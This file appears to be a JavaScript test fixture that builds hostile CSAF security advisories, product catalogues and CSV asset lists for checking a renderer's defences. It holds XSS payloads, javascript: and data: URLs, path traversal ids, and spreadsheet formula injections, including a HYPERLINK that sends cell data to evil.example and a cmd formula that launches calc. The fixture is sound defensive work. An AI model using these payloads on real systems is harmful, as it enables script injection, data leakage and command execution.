// Documents of people who mean harm: one for each kind of attack, which stands in every field that takes free text.
//
// All of them hold to the schema of CSAF 2.0, so that nothing but the renderer stands between them and a reader.

const LONG = 10_000

// What stands in the fields; `urls` in the fields for addresses.
export const attacks = {
  clean: { text: 'Plain words' },
  script: { text: '<script>window.pwned=1</script>' },
  image: { text: '<img src=x onerror=window.pwned=1><svg onload=window.pwned=1><iframe src=//evil.example/></iframe>' },
  style: { text: '<style>body{display:none}</style><link rel=stylesheet href=//evil.example/a.css><base href=//evil.example/><meta http-equiv=refresh content=0;//evil.example/>' },
  closing: { text: '</title></textarea></style></noscript></script></template><script>window.pwned=1</script>' },
  comment: { text: '--><!--<![CDATA[]]>]]><script>window.pwned=1</script><?xml version="1.0"?>&lt;script&gt;window.pwned=1&lt;/script&gt;&#60;script>&amp;' },
  attribute: { text: `"'\`><svg onload=window.pwned=1> ' onmouseover='window.pwned=1' " autofocus onfocus="window.pwned=1" x=\`` },
  markdown: {
    text: '[x](javascript:window.pwned=1) ![y](//evil.example/y.png) ![z](x"onerror="window.pwned=1) <a href=javascript:window.pwned=1>a</a> <javascript:window.pwned=1> [r]',
    notes: '\n\n[r]: javascript:window.pwned=1\n\n<div onclick=window.pwned=1>\n\n# Heading\n\n|a|b|\n|-|-|\n|<script>window.pwned=1</script>|b|\n\n```html\n<script>window.pwned=1</script>\n```\n',
  },
  template: { text: `{{ 7*7 }} {% raw %} {# x #} {{ site.title }} \${7*7} <%= 7*7 %> {{ <said of={x} /> }}` },
  // Unclosed, as they are used to turn round what follows.
  direction: { text: 'a\u202ecba\u2066d\u2067e\u200f\u061c' },
  hebrew: { text: 'עברית 12' },
  // Zero-width signs, towers of marks, a sign that no font has, and line breaks of every kind.
  signs: {
    text: `z\u200bw\u200d\u2060\ufeff\u00ad ${'Z' + '\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319'.repeat(30)} \u{10ffff} 👩‍👩‍👧‍👦 a\rb\nc\r\nd\u0085e\u2028f\u2029g\u000bh\u000ci`,
    notes: '\u0000\u0001\u007f\u009b31m',
  },
  formula: { text: '=HYPERLINK("https://evil.example/?"&A1,"x")' },
  unbroken: { text: 'W'.repeat(LONG) },
  endless: { text: 'Wide words '.repeat(LONG / 11) },
  many: { text: 'One of many', releases: 200 },
}

// Addresses as far as the format of the field lets them pass.
const ADDRESSES = [
  'javascript:window.pwned=1',
  'JaVaScRiPt:window.pwned=1//https://a.example/',
  'data:text/html,%3Cscript%3Eopener.pwned=1%3C/script%3E',
  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==',
  'vbscript:window.pwned',
  'file:///etc/passwd',
  'blob:https://a.example/x',
  'https://a.example/%22%3E%3Csvg%20onload=window.pwned=1%3E',
  "https://a.example/'onmouseover='window.pwned=1",
  'https://user:password@evil.example/',
]

// Addresses that a strict reader refuses; they come in files of their own, and may be refused.
const BROKEN_ADDRESSES = [
  'java\tscript:window.pwned=1',
  'java\nscript:window.pwned=1',
  ' javascript:window.pwned=1',
  '\u0001javascript:window.pwned=1',
  'https://a.example/"><svg onload=window.pwned=1>',
  'https:\\\\evil.example\\',
  '//evil.example/',
  'javascript&colon;window.pwned=1',
]

// What ends every field, so that a look at the page tells which fields it shows; letters of the same direction.
const MARK = { hebrew: ['א', 'ב', 'ג', 'ד', 'ה', 'ו', 'ז', 'ח', 'ט', 'י'] }
export function mark(attack, number) {
  const digits = MARK[attack]
  return digits ? ` ק${[...String(number)].map((digit) => digits[digit]).join('')}ק` : ` F${number}F`
}

export const idOf = (attack) => `HOSTILE-${attack.toUpperCase()}`
export const slugOf = (id) => id.toLowerCase().replace(/[^+\-a-z0-9]+/g, '_')
export const cveOf = (attack) => `CVE-1900-${1000 + Object.keys(attacks).indexOf(attack)}`

// A document with the attack in every field, the names of these fields by their numbers, and its product's names.
export function document(attack, version, { addresses = ADDRESSES, id = idOf(attack), cve = cveOf(attack) } = {}) {
  const { text, notes = '', releases = 2 } = attacks[attack] ?? attacks.clean
  const fields = []
  const names = {}
  let turn = 0
  const t = (field) => {
    let number = fields.indexOf(field)
    if (number < 0) number = fields.push(field) - 1
    return text + mark(attack, number)
  }
  const address = () => addresses[turn++ % addresses.length]
  const date = (day) => `2020-01-${String(day).padStart(2, '0')}T00:00:00Z`
  const note = (category, field) => ({ category, title: t(`${field} title`), text: `${t(`${field} text`)}${notes}${version > 1 ? '\n\nAnother word in the second version.' : ''}`, audience: t(`${field} audience`) })
  const thanks = (field) => [{ names: [t(`${field} name`), t(`${field} other name`)], organization: t(`${field} organization`), summary: t(`${field} summary`), urls: [address(), address()] }]
  const references = (field) => [
    ...addresses.map((url, at) => ({ category: at % 2 ? 'self' : 'external', summary: t(`${field} summary ${at % 3}`), url })),
  ]
  const leaf = (at) => ({
    category: 'product_version',
    name: (names.release ??= t('release')) + (at ? ` ${at}` : ''),
    product: {
      product_id: `P${at}`,
      name: t('full product name') + ` ${at}`,
      product_identification_helper: at > 1 ? { skus: [`SKU-${attack}-${at}`] } : {
        hashes: [{ filename: t('hash filename'), file_hashes: [{ algorithm: 'sha256', value: 'a'.repeat(64) }] }],
        model_numbers: [t('model number') + (at ? ` ${at}` : '')],
        serial_numbers: [t('serial number') + (at ? ` ${at}` : '')],
        skus: [t('stock keeping unit') + (at ? ` ${at}` : '')],
        sbom_urls: [address()],
        x_generic_uris: [{ namespace: address(), uri: address() }],
      },
    },
  })
  const all = Array.from({ length: releases }, (_, at) => `P${at}`)
  const content = {
    document: {
      acknowledgments: thanks('thanks'),
      aggregate_severity: { text: t('aggregate severity') },
      category: 'csaf_security_advisory',
      csaf_version: '2.0',
      distribution: { text: t('distribution'), tlp: { label: 'WHITE', url: 'https://www.first.org/tlp/' } },
      lang: attack === 'hebrew' ? 'he' : 'en',
      notes: ['summary', 'description', 'details', 'faq', 'legal_disclaimer', 'other'].map((category) => note(category, `note ${category}`)),
      publisher: {
        category: 'vendor',
        name: t('publisher name'),
        namespace: 'https://devices.example',
        contact_details: t('contact details'),
        issuing_authority: t('issuing authority'),
      },
      references: references('reference'),
      title: t('title'),
      tracking: {
        aliases: [t('alias'), t('other alias')],
        id,
        status: 'final',
        version: String(version),
        initial_release_date: date(1),
        current_release_date: date(version),
        revision_history: Array.from({ length: version }, (_, at) => ({ number: String(at + 1), legacy_version: t('legacy version'), date: date(at + 1), summary: t(`revision summary ${at}`) })),
        generator: { engine: { name: t('engine'), version: t('engine version') } },
      },
    },
    product_tree: {
      branches: [{
        category: 'vendor',
        name: t('vendor'),
        branches: [{
          category: 'product_family',
          name: t('product family'),
          branches: [{
            category: 'product_name',
            name: (names.product = t('product name')),
            branches: [
              ...all.map((_, at) => leaf(at)),
              { category: 'product_version_range', name: t('version range'), product: { product_id: 'R', name: t('range product') } },
              { category: 'architecture', name: t('architecture'), branches: [{ category: 'product_version', name: t('deep release'), product: { product_id: 'D', name: t('deep product') } }] },
            ],
          }],
        }],
      }],
      full_product_names: [{ product_id: 'N', name: t('loose product') }],
      product_groups: [{ group_id: 'G', product_ids: ['P0', 'P1'], summary: t('group summary') }],
      relationships: [{ category: 'installed_on', product_reference: 'P0', relates_to_product_reference: 'N', full_product_name: { product_id: 'J', name: t('joined product') } }],
    },
    vulnerabilities: [{
      acknowledgments: thanks('vulnerability thanks'),
      cve,
      cwe: { id: 'CWE-79', name: t('weakness') },
      flags: [{ label: 'component_not_present', product_ids: ['D'], date: date(1) }],
      ids: [{ system_name: t('system name'), text: t('id text') }],
      involvements: [{ party: 'vendor', status: 'completed', date: date(1), summary: t('involvement') }],
      notes: ['description', 'general'].map((category) => note(category, `vulnerability note ${category}`)),
      product_status: {
        known_affected: all.filter((_, at) => at !== 1).concat('R', 'J'),
        fixed: ['P1'],
        known_not_affected: ['D'],
        under_investigation: ['N'],
      },
      references: references('vulnerability reference'),
      remediations: ['vendor_fix', 'mitigation', 'workaround', 'none_available', 'no_fix_planned'].map((category) => ({
        category,
        date: date(1),
        details: t(`remedy ${category}`) + notes,
        entitlements: [t('entitlement')],
        product_ids: category === 'vendor_fix' ? ['P0', 'R', 'J'] : ['P0'],
        restart_required: { category: 'machine', details: t('restart') },
        url: address(),
      })),
      scores: [{ products: ['P0', 'R'], cvss_v3: { version: '3.1', vectorString: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H', baseScore: 9.8, baseSeverity: 'CRITICAL' } }],
      threats: ['impact', 'exploit_status', 'target_set'].map((category) => ({ category, date: date(1), details: t(`threat ${category}`) + notes, product_ids: category === 'impact' ? ['D'] : ['P0'] })),
      title: t('vulnerability title'),
    }, {
      // Without a number, named by somebody's system.
      ids: [{ system_name: t('second system name'), text: t('second id text') }],
      title: t('second vulnerability title'),
      notes: [note('description', 'second vulnerability note')],
      product_status: { known_affected: ['P0'], known_not_affected: ['N'] },
      threats: [{ category: 'impact', details: t('second impact'), product_ids: ['N'] }],
    }],
  }
  return { content, fields, names }
}

// All files: names and contents; those under `broken/` may be refused.
export function* files() {
  for (const attack of Object.keys(attacks))
    for (const version of [1, 2]) yield [`good/${attack}-${version}.json`, document(attack, version).content]
  for (const [at, address] of BROKEN_ADDRESSES.entries())
    yield [`broken/address-${at}.json`, document('clean', 1, { addresses: [address], id: `BROKEN-ADDRESS-${at}`, cve: `CVE-1900-${2000 + at}` }).content]
  // Ids are names of files and folders, too.
  for (const [at, id] of ['<script>window.pwned=1</script>', '"><svg onload=window.pwned=1>', '../../../etc/passwd', '..', 'CON', 'X'.repeat(200), 'X'.repeat(LONG), 'a\u202eb', '=1+1', '{{ 7*7 }}', '%2e%2e%2f', 'עברית-1', 'index.html'].entries())
    yield [`broken/id-${at}.json`, document('clean', 1, { id, cve: `CVE-1900-${3000 + at}` }).content]
}

export const site = `title    = "Adopted documents"
base_url = "https://security.devices.example"

[publisher]
category        = "vendor"
name            = "Example Devices"
namespace       = "https://devices.example"
contact_details = "psirt@devices.example"
`

// A catalogue with the same attacks: names, models and former names are drawn on pages of their own.
export function* products() {
  for (const [attack, { text }] of Object.entries(attacks)) {
    const t = (field) => JSON.stringify(`${text} ${field} ${attack}`).replaceAll('\u007f', '\\u007f')
    const release = (at) => `\n[[release]]\nversion = ${JSON.stringify(`${at}.0`)}\ndate = 2020-01-01\n`
    yield [`own-${attack}.toml`, `name = ${t('own')}
vendor = ${t('own vendor')}
family = ${t('own family')}
former_names = [${t('former')}]
description = ${t('own description')}
version_scheme = "intdot"
where_to_find_version = ${t('own place')}

[[model]]
number = ${t('own model')}
name = ${t('own model name')}
${release(1)}${release(2)}`]
  }
}

// Asset lists that a hospital did not mean to drop.
export function* lists() {
  const head = 'product,version,model,note\n'
  const quoted = (text) => `"${text.replaceAll('"', '""')}"`
  const every = Object.keys(attacks).map((attack) => {
    const { names } = document(attack, 2)
    return [names.product, names.release, attacks[attack].text, attacks[attack].text].map(quoted).join(',')
  })
  yield ['attacks', Buffer.from(head + every.join('\n'))]
  const formulas = ['=HYPERLINK("https://evil.example","x")', '=cmd|\' /C calc\'!A0', '@SUM(1+1)', '+1+1', '-1-1', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', '\u200b=1+1', '\u0000=1+1', '\ufeff=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', '"=1+1', '\'=1+1']
  yield ['formulas', Buffer.from(head + formulas.map((text) => Array(4).fill(quoted(text)).join(',')).join('\n'))]
  // In the heading, too, and with another separator.
  yield ['semicolons', Buffer.from(`product;=1+1;"=2+2"\n${formulas.map((text) => `${quoted(text)};=1+1;x,=1+1`).join('\n')}`)]
  yield ['nuls', Buffer.from(`${head}a\u0000b,\u0000,\u0000\n\u0000\u0000\u0000\n`)]
  yield ['bytes', Buffer.concat([Buffer.from(head), Buffer.from(Array.from({ length: 4096 }, (_, at) => (at * 7919) & 0xff))])]
  yield ['utf-16', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(head + every.slice(0, 4).join('\n'), 'utf16le'), Buffer.from([0xd8])])]
  yield ['large-cell', Buffer.from(`${head}${'x'.repeat(100_000)},1,m,n\n"${'a "" b\n'.repeat(10_000)}",1,m,n\n`)]
  yield ['unclosed', Buffer.from(`${head}"a,b,c\n=1+1,"b"c"d,e\n"`)]
  yield ['empty', Buffer.from('')]
  yield ['wide', Buffer.from(`product,${'x,'.repeat(5000)}\n${'a,'.repeat(5000)}\n`)]
  yield ['markup-in-name', Buffer.from('<script>window.pwned=1</script>,product\n<img src=x onerror=window.pwned=1>,<img src=x onerror=window.pwned=1>\n')]
}
